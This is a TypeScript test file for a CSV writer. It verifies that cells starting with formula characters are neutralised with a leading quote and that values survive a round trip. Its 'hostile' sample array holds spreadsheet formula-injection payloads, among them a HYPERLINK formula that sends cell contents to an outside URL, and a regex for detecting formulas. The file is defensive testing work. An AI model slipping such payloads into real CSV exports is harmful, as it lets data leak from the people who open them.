import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCellValue, csvRow, csvRows, parseCsvRow, type CsvCell } from './csv.js';

/** What a spreadsheet evaluates: a cell beginning with one of OWASP's formula characters (full-width ones too). */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('the shared CSV writer', () => {
  it('when a cell begins with =, +, -, @, a tab or a carriage return, it writes it behind a single quote', () => {
    const hostile = ['=HYPERLINK("http://x/?"&A1,"Click")', '+1+1', '-1-1', '@SUM(A1:A2)', '\t=1', '\r=1', '\uFF1D1+1'];
    const cells = parseRaw(csvRow(hostile).slice(0, -1));
    expect(cells).toEqual(hostile.map((value) => `'${value}`));
    expect(cells.filter((cell) => cell !== null && FORMULA.test(cell))).toEqual([]);
  });

  it('when a cell is plain text, it writes it unchanged', () => {
    expect(csvRow(['abc', '123', "'abc", 'a=b', ' =1'])).toBe("abc,123,'abc,a=b, =1\n");
  });

  it('when a value is null it writes an empty field, and an empty string as ""', () => {
    expect(csvRow([null, '', 'x'])).toBe(',"",x\n');
  });

  it('when a cell holds a comma, a quote, a newline or starts with #, it quotes it', () => {
    expect(csvRow(['a,b', 'q"q', 'two\nlines', '#x'])).toBe('"a,b","q""q","two\nlines","#x"\n');
  });

  it('when values begin with quotes before a formula character, it adds one more so that reading gives them back', () => {
    expect(csvRow(["'=1", "''-1"])).toBe("''=1,'''-1\n");
    expect(parseCsvRow("''=1,'''-1")).toEqual(["'=1", "''-1"]);
  });

  it('when any record is written and read back, it gets the same values, and no cell is a formula', () => {
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', '\n', '#', '\uFF1D', 'a', ' ', '1');
    const cell: fc.Arbitrary<CsvCell> = fc.oneof(
      fc.constant(null),
      fc.string(),
      fc.array(risky, { maxLength: 6 }).map((parts) => parts.join('')),
      fc.tuple(fc.array(risky, { maxLength: 3 }), fc.string()).map(([parts, rest]) => parts.join('') + rest),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 8 }), (cells) => {
        const text = csvRow(cells);
        expect(text.endsWith('\n')).toBe(true);
        expect(parseCsvRow(text.slice(0, -1))).toEqual(cells);
        // Each cell as written (before csvCellValue) never starts a formula.
        const written = parseRaw(text.slice(0, -1));
        for (const value of written) if (value !== null) expect(value).not.toMatch(FORMULA);
      }),
      { numRuns: 2_000 },
    );
  });

  it('when several records are written, it ends each with a newline, and none when there are none', () => {
    expect(csvRows([['a'], ['=b']])).toBe("a\n'=b\n");
    expect(csvRows([])).toBe('');
  });

  it('when a cell was not neutralised, csvCellValue leaves it as it is', () => {
    expect(csvCellValue("'abc")).toBe("'abc");
    expect(csvCellValue('=1')).toBe('=1');
    expect(csvCellValue(null)).toBeNull();
  });
});

/** The cells as written, quotes undone but the neutralising quote kept: what a spreadsheet reads. */
function parseRaw(text: string): Array<string | null> {
  const cells: Array<string | null> = [];
  let index = 0;
  for (;;) {
    if (text[index] === '"') {
      let value = '';
      index += 1;
      for (;;) {
        const quote = text.indexOf('"', index);
        value += text.slice(index, quote);
        if (text[quote + 1] === '"') {
          value += '"';
          index = quote + 2;
        } else {
          index = quote + 1;
          break;
        }
      }
      cells.push(value);
    } else {
      const comma = text.indexOf(',', index);
      const end = comma < 0 ? text.length : comma;
      cells.push(text.slice(index, end) === '' ? null : text.slice(index, end));
      index = end;
    }
    if (index === text.length) return cells;
    index += 1;
  }
}
